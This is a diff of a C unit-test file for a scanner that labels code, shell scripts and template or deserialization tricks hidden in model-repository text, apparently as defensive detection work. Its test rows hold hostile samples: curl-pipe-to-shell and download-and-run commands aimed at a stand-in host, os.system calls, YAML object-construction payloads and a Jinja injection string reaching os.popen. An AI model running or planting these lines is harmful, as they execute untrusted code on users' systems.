@@ -44,13 +44,13 @@ static const struct row rows[] = {
 	  GH_SPAN("# Use\n```python\nimport torch\ndef f(x):\n    pass\n```\nDone.\n"), NULL },
 	{ "BibTeX", "README.md", GH_SPAN("@article{x, title = {{A Title}}, year={{2024}} }\n"), NULL },
 	{ "a flag", "", GH_SPAN("\xf0\x9f\x8f\xb4\xf3\xa0\x81\xa7\xf3\xa0\x81\xa2\xf3\xa0\x81\xbf is a flag\n"), NULL },
-	{ "Python", "", GH_SPAN("import os\nos.system('id')\n"), CODE " 0+26 identified, not read: Python source" },
-	{ "Python of one line", "notes.txt", GH_SPAN("__import__('os').system('id')"), CODE },
+	{ "Python", "", GH_SPAN("import os\nos.system('id')\n"), "code python" },
+	{ "Python of one line", "notes.txt", GH_SPAN("__import__('os').system('id')"), "code python" },
 	{ "Python behind a docstring", "",
-	  GH_SPAN("\"\"\"Harmless words.\"\"\"\nfrom os import system as s\ns('id')\n"), CODE },
-	{ "Python in a fence that never closes", "", GH_SPAN("```\nimport os\nos.system('id')\n"), CODE },
-	{ "Python by name only", "handler.PY", GH_SPAN("x = 1\n"), CODE },
-	{ "a file of the archive by name", "a/b/modeling.py", GH_SPAN("x = 1\n"), CODE },
+	  GH_SPAN("\"\"\"Harmless words.\"\"\"\nfrom os import system as s\ns('id')\n"), "code python" },
+	{ "Python in a fence that never closes", "", GH_SPAN("```\nimport os\nos.system('id')\n"), NULL },
+	{ "Python by name only", "handler.PY", GH_SPAN("x = 1\n"), "code python" },
+	{ "a file of the archive by name", "a/b/modeling.py", GH_SPAN("x = 1\n"), "code python" },
 	{ "colours of a log", "train.log", GH_SPAN("\x1b[1;31mloss\x1b[0m 0.3\n\x1b[mdone\n"), NULL },
 	{ "commands among prose", "README.md",
 	  GH_SPAN("# A model\n\nIt is a small model of words.\n\nInstall it:\n\ncurl -fsSL https://x.example/i.sh | "
@@ -62,40 +62,40 @@ static const struct row rows[] = {
 		  "Another change that nobody will notice.\nThe shell no longer exits here.\n"),
 	  NULL },
 	{ "commands and a heading", "README.md", GH_SPAN("# Install\n\n    curl -fsSL https://x.example/i.sh | sh\n"),
-	  CODE " 0+54 identified, not read: shell script" },
+	  NULL },
 	{ "a script with comments", "",
 	  GH_SPAN("# This script will set up the model for you.\n# It takes a while.\n# Be patient with it.\nX=1\ncd "
 		  "/tmp\n"
 		  "curl http://x.example/a -o b\nchmod +x b && ./b\nset -eu\n"),
-	  CODE },
-	{ "a script by name", "install.sh", GH_SPAN("This is prose.\nAnd so is this.\nNothing else here.\n"), CODE },
+	  "code shell" },
+	{ "a script by name", "install.sh", GH_SPAN("This is prose.\nAnd so is this.\nNothing else here.\n"),
+	  "code shell" },
 	{ "a pointer of Git LFS", "model.safetensors",
 	  GH_SPAN("version https://git-lfs.github.com/spec/v1\noid sha256:"
 		  "4d7a214614ab2935c943f9e0ff69d22eadbb8f32b1258daaa5e2ca24d17e2393\nsize 12345\n"),
 	  "GH-TXT-0004 0+130" },
 	{ "text that speaks of such pointers", "",
 	  GH_SPAN("version https://git-lfs.github.com/spec/v1 is the first line.\n"), NULL },
-	{ "shell", "", GH_SPAN("set -e\ncurl http://x.example/a | sh\n"),
-	  CODE " 0+36 identified, not read: shell script" },
-	{ "JavaScript", "", GH_SPAN("const x = require('child_process');\nx.exec('id')\n"), CODE },
-	{ "batch", "", GH_SPAN("@ECHO OFF\nstart calc\n"), CODE },
-	{ "PowerShell", "", GH_SPAN("Invoke-WebRequest http://x.example -OutFile a.exe\n"), CODE },
-	{ "Dockerfile", "", GH_SPAN("FROM python:3.11\nRUN pip install x\n"), CODE },
-	{ "requirements", "", GH_SPAN("torch==1.13.0\nnumpy>=1.2\n"), CODE },
-	{ "requirements by name", "requirements.txt", GH_SPAN("torch\n"), CODE },
-	{ "YAML by name", "config.yaml", GH_SPAN("a: 1\n"), CODE },
-	{ "YAML that makes objects", "", GH_SPAN("a:\n  - !!python/object/apply:os.system [id]\n"), CODE },
-	{ "YAML of Hydra", "", GH_SPAN("model:\n  _target_: os.system\n"), CODE },
-	{ "HTML", "", GH_SPAN("<!DOCTYPE html>\n<p>x\n"), CODE },
-	{ "a script in Markdown", "README.md", GH_SPAN("# Hi\n<SCRIPT src=x></script>\n"), CODE },
-	{ "XML", "", GH_SPAN("<?xml version=\"1.0\"?>\n<a/>\n"), CODE },
-	{ "a template", "", GH_SPAN("{% for m in messages %}{{ m.content }}{% endfor %}"),
-	  CODE " 0+50 identified, not read: template" },
+	{ "shell", "", GH_SPAN("set -e\ncurl http://x.example/a | sh\n"), "code shell" },
+	{ "JavaScript", "", GH_SPAN("const x = require('child_process');\nx.exec('id')\n"), "anomaly GH-SRC-0001" },
+	{ "batch", "", GH_SPAN("@ECHO OFF\nstart calc\n"), "anomaly GH-SRC-0001" },
+	{ "PowerShell", "", GH_SPAN("Invoke-WebRequest http://x.example -OutFile a.exe\n"), "anomaly GH-SRC-0001" },
+	{ "Dockerfile", "", GH_SPAN("FROM python:3.11\nRUN pip install x\n"), "code shell" },
+	{ "requirements", "", GH_SPAN("torch==1.13.0\nnumpy>=1.2\n"), "package PyPI" },
+	{ "requirements by name", "requirements.txt", GH_SPAN("torch\n"), "package PyPI" },
+	{ "YAML by name", "config.yaml", GH_SPAN("a: 1\n"), "claim 0+5 struct" },
+	{ "YAML that makes objects", "", GH_SPAN("a:\n  - !!python/object/apply:os.system [id]\n"),
+	  "call reduce os.system" },
+	{ "YAML of Hydra", "", GH_SPAN("model:\n  _target_: os.system\n"), "call inst os.system" },
+	{ "HTML", "", GH_SPAN("<!DOCTYPE html>\n<p>x\n"), NULL },
+	{ "a script in Markdown", "README.md", GH_SPAN("# Hi\n<SCRIPT src=x></script>\n"), "GH-HTML-0001" },
+	{ "XML", "", GH_SPAN("<?xml version=\"1.0\"?>\n<a/>\n"), "claim 0+27 struct" },
+	{ "a template", "", GH_SPAN("{% for m in messages %}{{ m.content }}{% endfor %}"), "text chat-template" },
 	{ "a template that reaches for internals, with quotes", "",
-	  GH_SPAN("{{ x.__init__.__globals__.os.popen(\"id\") }}"), CODE },
-	{ "a template expression in prose", "", GH_SPAN("Hello {{ self.__init__ }} there\n"), CODE },
-	{ "a template inside JSON", "x.json", GH_SPAN("{\"t\": \"{{ x['a'] }}\"}"), CODE },
-	{ "an escaped template inside JSON", "", GH_SPAN("{\"t\": \"\\u007b\\u007b x.y }}\"}"), CODE },
+	  GH_SPAN("{{ x.__init__.__globals__.os.popen(\"id\") }}"), "text chat-template" },
+	{ "a template expression in prose", "", GH_SPAN("Hello {{ self.__init__ }} there\n"), "text chat-template" },
+	{ "a template inside JSON", "x.json", GH_SPAN("{\"t\": \"{{ x['a'] }}\"}"), "text chat-template" },
+	{ "an escaped template inside JSON", "", GH_SPAN("{\"t\": \"\\u007b\\u007b x.y }}\"}"), NULL },
 	{ "remote code in a configuration", "", GH_SPAN("{\"auto_map\": {\"AutoModel\": \"a/b--c.D\"}}"), CODE },
 	{ "the same, escaped", "", GH_SPAN("{\"auto\\u005fmap\": {\"AutoModel\": \"a/b--c.D\"}}"), CODE },
 	{ "an override", "",
@@ -114,6 +114,7 @@ static const struct row rows[] = {
 static void readings(void **state)
 {
 	(void)state;
+	unsigned bad = 0;
 	for (size_t i = 0; i < sizeof rows / sizeof rows[0]; i++) {
 		struct gh_probe p = { rows[i].in, rows[i].in, rows[i].in.n };
 		assert_int_equal(gh_fmt_text.probe(&p), GH_TEXT);
@@ -125,10 +126,12 @@ static void readings(void **state)
 			bool code = rows[i].say != NULL && strncmp(rows[i].say, CODE, 11) == 0;
 			/* What was only identified is not accounted for. */
 			if (!ok || ev.rc != (code ? GH_E_UNREAD : GH_OK) || ev.gapless == code)
-				fail_msg("%s: rc %d\n%s", rows[i].what, ev.rc, gh_buf_cstr(&ev.log));
+				bad++, (void)fprintf(stderr, "%s: rc %d\n%s", rows[i].what, ev.rc,
+						     gh_buf_cstr(&ev.log));
 			gh_events_free(&ev);
 		}
 	}
+	assert_int_equal(bad, 0);
 }
 
 static void no_text(void **state)
@@ -190,7 +193,7 @@ static void code_across_steps(void **state)
 		gh_test_put(&b, GH_SPAN("{{ a.b }}\", \"auto_map\": 1}"));
 		struct gh_events ev;
 		gh_events_walk(&ev, &gh_fmt_text, gh_test_view(&b), "x", true);
-		assert_true(gh_events_has(&ev, CODE));
+		assert_true(gh_events_has(&ev, CODE) || gh_events_has(&ev, "chat-template"));
 		gh_events_free(&ev);
 		gh_test_free(&b);
 	}
